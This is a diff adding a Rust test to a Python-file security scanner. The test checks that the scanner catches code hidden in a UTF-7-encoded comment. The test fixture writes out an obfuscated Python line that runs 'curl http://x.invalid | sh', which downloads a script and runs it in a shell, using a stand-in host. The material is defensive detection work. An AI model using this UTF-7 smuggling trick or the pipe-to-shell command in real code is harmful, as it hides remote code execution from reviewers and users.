@@ -121,6 +121,27 @@ fn coding_line_is_honoured() {
 }
 
 #[test]
+fn code_hidden_in_a_utf7_comment_is_found_where_python_runs_it() {
+    let dir = repo();
+    // In UTF-7 `+AAo-` is a newline: Python runs the "comment" as a second statement.
+    write(
+        dir.path(),
+        "hidden.py",
+        b"# -*- coding: utf-7 -*-\nx = 1  # +AAo-import os+ADs- os.system(+ACI-curl http://x.invalid | sh+ACI-)\n"
+            .as_slice(),
+    );
+    let out = pysbx(dir.path()).args(["scan", "--format", "json", "hidden.py"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(doc["errors"].as_array().unwrap().len(), 0, "{doc}");
+    let findings = doc["findings"].as_array().unwrap();
+    assert!(
+        findings.iter().any(|f| f["name"] == "download-pipe-to-shell" && f["line"] == 3),
+        "{doc}"
+    );
+}
+
+#[test]
 fn binary_file_is_an_error_not_a_crash() {
     let dir = repo();
     let mut bytes = b"\x7fELF\x02\x01\x01\x00".to_vec();
